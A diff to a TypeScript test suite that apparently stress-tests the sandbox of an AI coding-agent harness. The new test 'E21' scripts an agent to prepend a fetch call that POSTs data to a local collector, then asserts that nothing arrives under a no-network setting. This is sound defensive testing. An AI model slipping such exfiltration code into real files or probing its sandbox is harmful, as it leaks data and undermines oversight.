@@ -3,6 +3,7 @@ import { createJavaScriptWorld } from '../scenario/acts.ts';
 import { readConversation } from '../scenario/fixture-repository.ts';
 import { type RecordedStep, toolCall } from '../servers/openai/script.ts';
 import { attack } from './attack.ts';
+import { startCollector } from './hostile-module.ts';
 import { payloadsOf, raid } from './record.ts';
 
 interface Trick {
@@ -116,6 +117,20 @@ for (const { id, what, code, inputs, files = {}, isTakenBack = false } of TRICKS
     return `${result.outputs['outcome']}: ${verdicts.join(', ')}`;
   });
 }
+
+attack('E21', 'the network with test-network: none, from the bundle', async () => {
+  await using collector = await startCollector();
+  const code = `try { await fetch('http://127.0.0.1:${collector.port}/', { method: 'POST', body: '{"out": "1"}' }); } catch {}\n`;
+  await using world = await createJavaScriptWorld({
+    script: [read, edit(FIRST_LINE, `${code}${FIRST_LINE}`)],
+    otherwise: () => giveUp,
+  });
+  const inputs = { 'max-reflections': '0', sandbox: 'required', 'test-network': 'none' };
+  await raid(world, { inputs });
+  expect(payloadsOf(world, 'tests').length).toBeGreaterThan(1);
+  expect(collector.findings).toEqual([]);
+  return 'the loopback of the machine is out of reach';
+});
 
 attack('R17', 'a green baseline: nothing to prove', async () => {
   await using world = await createJavaScriptWorld({ script: [] });
